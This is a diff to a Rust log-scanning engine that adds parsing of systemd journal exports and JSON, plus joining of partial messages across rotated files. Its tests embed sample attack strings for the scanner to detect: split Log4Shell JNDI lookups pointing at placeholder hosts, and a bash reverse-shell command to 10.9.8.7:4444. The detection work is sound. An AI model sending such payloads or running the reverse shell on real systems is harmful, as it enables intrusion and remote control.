@@ -1,7 +1,9 @@
 //! Streaming a log through the engine: large buffers searched whole, the line around a
 //! candidate found only then, line numbers counted lazily, lines longer than the record
 //! limit cut at fixed offsets (so results never depend on the buffer size), json-file
-//! records decoded only when they are candidates and their 16 KiB parts joined per stream.
+//! records decoded only when they are candidates and their 16 KiB parts joined per stream;
+//! journald export entries (`journalctl -o export`) read field by field, partial messages
+//! joined per container and stream.
 //! Large plain files are cut at newlines and scanned in parallel.
 
 use std::collections::BTreeMap;
@@ -26,6 +28,16 @@ pub enum LogFormat {
     /// CRI (containerd, CRI-O, Kubernetes `/var/log/pods`): `<RFC 3339> <stream> <P|F> <msg>`
     /// per line; `P` lines are parts of one message, joined per stream up to the `F` line.
     Cri,
+    /// systemd journal export format (`journalctl -o export`, what the `journald` log driver
+    /// leaves): `FIELD=value` lines (binary fields as a name line, a little-endian u64 length
+    /// and the bytes), entries separated by an empty line. `MESSAGE` is the record, the
+    /// time `__REALTIME_TIMESTAMP` (µs), the stream `PRIORITY` (3 = stderr, 6 = stdout), and
+    /// `CONTAINER_PARTIAL_MESSAGE=true` parts are joined per `CONTAINER_ID` and stream.
+    /// `journalctl -o json` lines (the same fields as one object per line) are read too.
+    Journal,
+    /// The `local` driver's protobuf entries, decoded to CRI lines ([`super::local`]): one
+    /// line per entry, offsets in the decoded text.
+    Local,
 }
 
 impl LogFormat {
@@ -34,12 +46,22 @@ impl LogFormat {
         let h = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
         if h.starts_with(b"{\"log\":") {
             LogFormat::JsonFile
+        } else if h.starts_with(b"__CURSOR=")
+            || h.starts_with(b"__REALTIME_TIMESTAMP=")
+            || (h.starts_with(b"{")
+                && memchr::memmem::find(first_line(h), b"\"__REALTIME_TIMESTAMP\"").is_some())
+        {
+            LogFormat::Journal
         } else if split_cri(h.split(|c| *c == b'\n').next().unwrap_or(h)).is_some() {
             LogFormat::Cri
         } else {
             LogFormat::Text
         }
     }
+}
+
+fn first_line(h: &[u8]) -> &[u8] {
+    h.split(|c| *c == b'\n').next().unwrap_or(h)
 }
 
 /// One CRI log line split into (time, stream, partial, message), if it is one.
@@ -153,7 +175,33 @@ struct Pending {
     line: u64,
     offset: u64,
     time: Option<Timestamp>,
+    /// The artifact the message began in, when it began in an earlier (rotated) file.
+    origin: Option<Locator>,
 }
+
+/// Partial messages left open at the end of one file of a rotated log, to be completed by
+/// the next file of the same log (the same container's stream).
+#[derive(Default)]
+pub struct Carry(BTreeMap<String, Pending>);
+
+/// The journal entry being read.
+#[derive(Default)]
+struct JournalEntry {
+    /// Line and offset of its first field.
+    start: Option<(u64, u64)>,
+    message: Option<Vec<u8>>,
+    time: Option<Timestamp>,
+    priority: Option<u8>,
+    container: Option<String>,
+    partial: bool,
+    /// A binary field being read: (is MESSAGE, bytes still to read, bytes so far).
+    binary: Option<(bool, u64, Vec<u8>)>,
+    /// A binary field's name line was read; its length comes next.
+    binary_name: Option<bool>,
+}
+
+/// Separates the stream from the container in a pending key (streams never hold it).
+const KEY_SEP: char = '\u{1f}';
 
 struct State<'a> {
     engine: &'a Engine,
@@ -170,6 +218,9 @@ struct State<'a> {
     /// (line, rule) pairs already reported, for the long line being cut into records.
     last_line: (u64, Vec<usize>),
     pending: BTreeMap<String, Pending>,
+    /// The locator of the hits being recorded, when not this stream's (a carried message).
+    hit_loc: Option<Locator>,
+    journal: JournalEntry,
     bad_json: u64,
     first_bad_json: Option<(u64, u64)>,
     long_json: u64,
@@ -178,13 +229,30 @@ struct State<'a> {
 /// Scan a stream. `base_offset` is the offset of its first byte in the artifact (for
 /// chunks); line numbers count from 1 at the stream start.
 pub fn scan_stream<R: Read>(
-    mut r: R,
+    r: R,
     format: LogFormat,
     engine: &Engine,
     cfg: &ScanConfig,
     loc: &Locator,
     base_offset: u64,
 ) -> StreamScan {
+    scan_stream_carried(r, format, engine, cfg, loc, base_offset, Carry::default(), true).0
+}
+
+/// [`scan_stream`] for one file of a rotated log: `carry` holds the messages the previous
+/// (older) file left open; unless `last`, the messages this one leaves open are handed on
+/// instead of being evaluated as they are.
+#[allow(clippy::too_many_arguments)]
+pub fn scan_stream_carried<R: Read>(
+    mut r: R,
+    format: LogFormat,
+    engine: &Engine,
+    cfg: &ScanConfig,
+    loc: &Locator,
+    base_offset: u64,
+    carry: Carry,
+    last: bool,
+) -> (StreamScan, Carry) {
     let max_record = cfg.max_record.max(64);
     let cap = cfg.buf_size.max(max_record + 1);
     let mut st = State {
@@ -197,7 +265,9 @@ pub fn scan_stream<R: Read>(
         line_off: 0,
         out: StreamScan::default(),
         last_line: (0, Vec::new()),
-        pending: BTreeMap::new(),
+        pending: carry.0,
+        hit_loc: None,
+        journal: JournalEntry::default(),
         bad_json: 0,
         first_bad_json: None,
         long_json: 0,
@@ -242,7 +312,17 @@ pub fn scan_stream<R: Read>(
             len -= seg;
         }
     }
-    st.finish()
+    if last {
+        return (st.finish(), Carry::default());
+    }
+    if st.format == LogFormat::Journal {
+        st.journal_flush();
+    }
+    let mut open = std::mem::take(&mut st.pending);
+    for p in open.values_mut() {
+        p.origin.get_or_insert_with(|| loc.clone());
+    }
+    (st.finish(), Carry(open))
 }
 
 impl State<'_> {
@@ -256,6 +336,9 @@ impl State<'_> {
             LogFormat::JsonFile => self.json_region(region),
             LogFormat::Cri if self.line_off > 0 => self.text_region(region, max_record),
             LogFormat::Cri => self.cri_region(region),
+            LogFormat::Journal => self.journal_region(region),
+            LogFormat::Local if self.line_off > 0 => self.text_region(region, max_record),
+            LogFormat::Local => self.cri_region(region),
         };
         self.line += newlines;
         self.abs += region.len() as u64;
@@ -320,6 +403,150 @@ impl State<'_> {
         newlines
     }
 
+    fn journal_region(&mut self, region: &[u8]) -> u64 {
+        let mut start = 0usize;
+        let mut line = self.line;
+        let mut newlines = 0;
+        while start < region.len() {
+            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
+            let ends_line = end < region.len();
+            self.journal_line(&region[start..end], ends_line, line, self.abs + start as u64);
+            if ends_line {
+                newlines += 1;
+                line += 1;
+            }
+            start = end + 1;
+        }
+        newlines
+    }
+
+    /// One line of a journal export (or a piece of a binary field's data).
+    fn journal_line(&mut self, raw: &[u8], ends_line: bool, line: u64, offset: u64) {
+        let j = &mut self.journal;
+        if let Some((is_msg, need, mut data)) = j.binary.take() {
+            // Binary data may hold newlines: the line cut is part of the data. What is kept
+            // is bounded by the join limit, whatever length the field claims.
+            let take = (raw.len() as u64).min(need) as usize;
+            let room = self.cfg.max_join.saturating_sub(data.len());
+            data.extend_from_slice(&raw[..take.min(room)]);
+            let mut left = need - take as u64;
+            if left > 0 && ends_line {
+                if data.len() < self.cfg.max_join {
+                    data.push(b'\n');
+                }
+                left -= 1;
+            }
+            if left > 0 {
+                j.binary = Some((is_msg, left, data));
+            } else if is_msg {
+                j.message = Some(data);
+            }
+            return;
+        }
+        if let Some(is_msg) = j.binary_name.take() {
+            if raw.len() >= 8 {
+                let need = u64::from_le_bytes(raw[..8].try_into().unwrap_or_default());
+                let rest = &raw[8..];
+                j.binary = Some((is_msg, need, Vec::new()));
+                self.journal_line(rest, ends_line, line, offset);
+                return;
+            }
+        }
+        if raw.is_empty() {
+            self.journal_flush();
+            return;
+        }
+        if raw.first() == Some(&b'{') && j.start.is_none() {
+            self.journal_json(raw, line, offset);
+            return;
+        }
+        let j = &mut self.journal;
+        j.start.get_or_insert((line, offset));
+        match memchr::memchr(b'=', raw) {
+            Some(eq) => {
+                let (k, v) = (&raw[..eq], &raw[eq + 1..]);
+                let s = || std::str::from_utf8(v).ok();
+                match k {
+                    b"MESSAGE" => j.message = Some(v.to_vec()),
+                    b"__REALTIME_TIMESTAMP" => {
+                        j.time = s().and_then(|t| t.parse::<i64>().ok()).map(|us| {
+                            Timestamp::from_unix(
+                                us.div_euclid(1_000_000),
+                                (us.rem_euclid(1_000_000) * 1000) as u32,
+                            )
+                        })
+                    }
+                    b"PRIORITY" => j.priority = s().and_then(|p| p.parse().ok()),
+                    b"CONTAINER_ID_FULL" => j.container = s().map(String::from),
+                    b"CONTAINER_ID" if j.container.is_none() => j.container = s().map(String::from),
+                    b"CONTAINER_PARTIAL_MESSAGE" => j.partial = v == b"true",
+                    _ => {}
+                }
+            }
+            None => j.binary_name = Some(raw == b"MESSAGE"),
+        }
+    }
+
+    /// One `journalctl -o json` line: the same fields as one JSON object (`MESSAGE` a
+    /// string, or an array of bytes when it is not UTF-8).
+    fn journal_json(&mut self, raw: &[u8], line: u64, offset: u64) {
+        let Ok(serde_json::Value::Object(o)) = serde_json::from_slice::<serde_json::Value>(raw) else {
+            self.bad_json += 1;
+            self.first_bad_json.get_or_insert((line, offset));
+            let time = line_time(raw, self.cfg.syslog_year);
+            self.record(raw, line, offset, time, None);
+            return;
+        };
+        let s = |k: &str| o.get(k).and_then(|v| v.as_str()).map(String::from);
+        let message = match o.get("MESSAGE") {
+            Some(serde_json::Value::String(m)) => Some(m.clone().into_bytes()),
+            Some(serde_json::Value::Array(a)) => {
+                Some(a.iter().filter_map(|b| b.as_u64()).map(|b| b as u8).collect::<Vec<u8>>())
+            }
+            _ => None,
+        };
+        self.journal = JournalEntry {
+            start: Some((line, offset)),
+            message,
+            time: s("__REALTIME_TIMESTAMP").and_then(|t| t.parse::<i64>().ok()).map(|us| {
+                Timestamp::from_unix(us.div_euclid(1_000_000), (us.rem_euclid(1_000_000) * 1000) as u32)
+            }),
+            priority: s("PRIORITY").and_then(|p| p.parse().ok()),
+            container: s("CONTAINER_ID_FULL").or_else(|| s("CONTAINER_ID")),
+            partial: s("CONTAINER_PARTIAL_MESSAGE").as_deref() == Some("true"),
+            ..Default::default()
+        };
+        self.journal_flush();
+    }
+
+    /// The entry read so far is complete: its message joins its container's stream.
+    fn journal_flush(&mut self) {
+        let j = std::mem::take(&mut self.journal);
+        let (Some((line, offset)), Some(msg)) = (j.start, j.message) else { return };
+        let stream = match j.priority {
+            Some(p) if p <= 3 => "stderr",
+            Some(_) => "stdout",
+            None => "",
+        };
+        let key = format!("{stream}{KEY_SEP}{}", j.container.unwrap_or_default());
+        if let Some(mut p) = self.pending.remove(&key) {
+            let room = self.cfg.max_join.saturating_sub(p.text.len());
+            p.text.extend_from_slice(&msg[..msg.len().min(room)]);
+            if j.partial && p.text.len() < self.cfg.max_join {
+                self.pending.insert(key, p);
+            } else {
+                self.hit_loc = p.origin.clone();
+                self.message(&p.text, p.line, p.offset, p.time, stream);
+                self.hit_loc = None;
+            }
+        } else if j.partial {
+            let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
+            self.pending.insert(key, Pending { text, line, offset, time: j.time, origin: None });
+        } else {
+            self.message(&msg, line, offset, j.time, stream);
+        }
+    }
+
     fn cri_line(&mut self, raw: &[u8], line: u64, offset: u64) {
         let Some((time, stream, partial, msg)) = split_cri(raw) else {
             // Not a CRI line (a stray line in the file): searched as text.
@@ -336,12 +563,16 @@ impl State<'_> {
             if partial && p.text.len() < self.cfg.max_join {
                 self.pending.insert(stream.to_string(), p);
             } else {
+                self.hit_loc = p.origin.clone();
                 self.message(&p.text, p.line, p.offset, p.time, stream);
+                self.hit_loc = None;
             }
         } else if partial {
             let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
-            self.pending
-                .insert(stream.to_string(), Pending { text, line, offset: msg_offset, time: Some(time) });
+            self.pending.insert(
+                stream.to_string(),
+                Pending { text, line, offset: msg_offset, time: Some(time), origin: None },
+            );
         } else {
             self.message(msg, line, msg_offset, Some(time), stream);
         }
@@ -373,7 +604,9 @@ impl State<'_> {
         if let Some(mut p) = self.pending.remove(&stream) {
             p.text.extend_from_slice(&text);
             if ends || p.text.len() >= self.cfg.max_join {
+                self.hit_loc = p.origin.clone();
                 self.message(&p.text, p.line, p.offset, p.time.or(time), &stream);
+                self.hit_loc = None;
             } else {
                 self.pending.insert(stream, p);
             }
@@ -381,7 +614,7 @@ impl State<'_> {
         }
         if !ends && text.len() >= PART_SIZE {
             text.truncate(self.cfg.max_join);
-            self.pending.insert(stream, Pending { text, line, offset, time });
+            self.pending.insert(stream, Pending { text, line, offset, time, origin: None });
             return;
         }
         self.message(&text, line, offset, time, &stream);
@@ -436,7 +669,12 @@ impl State<'_> {
             let iocs = ioc::extract(rec, &text, m.jndi.as_ref(), &m.commands);
             self.out.hits.push(RawHit {
                 rule: m.rule,
-                locator: self.loc.clone().with_line(line).with_offset(offset),
+                locator: self
+                    .hit_loc
+                    .clone()
+                    .unwrap_or_else(|| self.loc.clone())
+                    .with_line(line)
+                    .with_offset(offset),
                 time,
                 stream: stream.clone(),
                 excerpt: excerpt(rec, shown.0, shown.1, EXCERPT_MAX),
@@ -447,9 +685,15 @@ impl State<'_> {
     }
 
     fn finish(mut self) -> StreamScan {
+        if self.format == LogFormat::Journal {
+            self.journal_flush(); // the last entry may lack its empty line
+        }
         let pending = std::mem::take(&mut self.pending);
-        for (stream, p) in pending {
+        for (key, p) in pending {
+            let stream = key.split(KEY_SEP).next().unwrap_or_default().to_string();
+            self.hit_loc = p.origin.clone();
             self.message(&p.text, p.line, p.offset, p.time, &stream);
+            self.hit_loc = None;
         }
         if self.bad_json > 0 {
             let (line, offset) = self.first_bad_json.unwrap_or((0, 0));
@@ -618,5 +862,127 @@ not a cri line ${jndi:ldap://stray.example/x}\n";
         assert_eq!(LogFormat::sniff(b"{\"log\":\"x\"}"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"\xef\xbb\xbf{\"log\":"), LogFormat::JsonFile);
         assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00Z x"), LogFormat::Text);
+    }
+
+    #[test]
+    fn partial_records_never_join_across_streams() {
+        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
+        // message holds `${jndi:...}`, so no hit may be made up by joining them.
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("0.log");
+        let cfg = ScanConfig::default();
+        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
+2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
+2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
+        let scan = scan_stream(&cri[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
+        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
+        let pad = "x".repeat(PART_SIZE);
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
+        // Joined within its own stream, the payload is found, on the line it starts.
+        let json = format!(
+            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
+{{\"log\":\"GET / 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
+{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
+        );
+        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
+        let hits: Vec<_> = scan
+            .hits
+            .iter()
+            .filter(|h| h.found.jndi.is_some())
+            .map(|h| (h.locator.line, h.stream.clone()))
+            .collect();
+        assert_eq!(hits, [(Some(1), Some("stderr".to_string()))]);
+    }
+
+    #[test]
+    fn journal_export_entries_joined_per_container_and_stream() {
+        // Two containers interleaved; container a's message is cut in two partial entries with
+        // container b's entry between them; a binary MESSAGE field holds a newline.
+        let mut log = Vec::new();
+        let entry = |fields: &[(&str, &str)]| {
+            let mut e = String::new();
+            for (k, v) in fields {
+                e.push_str(&format!("{k}={v}\n"));
+            }
+            e.push('\n');
+            e.into_bytes()
+        };
+        log.extend(entry(&[
+            ("__CURSOR", "s=1"),
+            ("__REALTIME_TIMESTAMP", "1764252000123456"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "aaaa"),
+            ("CONTAINER_PARTIAL_MESSAGE", "true"),
+            ("MESSAGE", "GET /?q=${jn"),
+        ]));
+        log.extend(entry(&[
+            ("__CURSOR", "s=2"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "bbbb"),
+            ("MESSAGE", "di:ldap://not.joined/}"),
+        ]));
+        log.extend(entry(&[
+            ("__CURSOR", "s=3"),
+            ("PRIORITY", "6"),
+            ("CONTAINER_ID", "aaaa"),
+            ("MESSAGE", "di:ldap://journal.example/a} HTTP/1.1"),
+        ]));
+        log.extend(b"__CURSOR=s=4\nPRIORITY=3\nCONTAINER_ID=cccc\nMESSAGE\n");
+        let bin = b"line one\nbash -i >& /dev/tcp/10.9.8.7/4444 0>&1";
+        log.extend((bin.len() as u64).to_le_bytes());
+        log.extend(bin);
+        log.extend(b"\n\n");
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("journal.export");
+        for buf_size in [100, 1 << 20] {
+            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
+            let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &loc, 0);
+            let jndi: Vec<_> = scan
+                .hits
+                .iter()
+                .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
+                .collect();
+            assert_eq!(jndi, [(Some(1), Some("journal.example".to_string()))], "buf {buf_size}");
+            let first = scan.hits.iter().find(|h| h.found.jndi.is_some()).unwrap();
+            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2025-11-27T14:00:00.123456000Z"));
+            assert_eq!(first.stream.as_deref(), Some("stdout"));
+            assert!(
+                scan.hits.iter().any(|h| h.stream.as_deref() == Some("stderr") && h.excerpt.contains("/dev/tcp/10.9.8.7")),
+                "binary MESSAGE field, stderr by PRIORITY"
+            );
+        }
+        assert_eq!(LogFormat::sniff(b"__CURSOR=s=1;i=2\n"), LogFormat::Journal);
+        // `journalctl -o json`: one object per line, the same joins.
+        let json = b"{\"__CURSOR\":\"s=1\",\"__REALTIME_TIMESTAMP\":\"1764252000000000\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"CONTAINER_PARTIAL_MESSAGE\":\"true\",\"MESSAGE\":\"GET /?q=${jn\"}\n\
+{\"__CURSOR\":\"s=2\",\"__REALTIME_TIMESTAMP\":\"1764252000000001\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"bbbb\",\"MESSAGE\":\"noise\"}\n\
+{\"__CURSOR\":\"s=3\",\"__REALTIME_TIMESTAMP\":\"1764252000000002\",\"PRIORITY\":\"6\",\"CONTAINER_ID\":\"aaaa\",\"MESSAGE\":[100,105,58,108,100,97,112,58,47,47,106,46,101,120,97,109,112,108,101,47,97,125]}\n";
+        assert_eq!(LogFormat::sniff(json), LogFormat::Journal);
+        let scan = scan_stream(&json[..], LogFormat::Journal, &engine, &ScanConfig::default(), &loc, 0);
+        let jndi: Vec<_> = scan
+            .hits
+            .iter()
+            .filter_map(|h| h.found.jndi.as_ref().map(|j| (h.locator.line, j.host.clone())))
+            .collect();
+        assert_eq!(jndi, [(Some(1), Some("j.example".to_string()))]);
+    }
+
+    #[test]
+    fn journal_binary_field_claiming_a_huge_length_is_bounded() {
+        let mut log = b"__CURSOR=s=1\nMESSAGE\n".to_vec();
+        log.extend((1u64 << 40).to_le_bytes());
+        log.extend(std::iter::repeat(b'a').take(200_000));
+        log.push(b'\n');
+        let engine = Engine::builtin().unwrap();
+        let cfg = ScanConfig { max_join: 4096, ..Default::default() };
+        let scan = scan_stream(&log[..], LogFormat::Journal, &engine, &cfg, &Locator::artifact("j"), 0);
+        assert!(scan.hits.is_empty());
+        assert_eq!(scan.bytes, log.len() as u64);
     }
 }
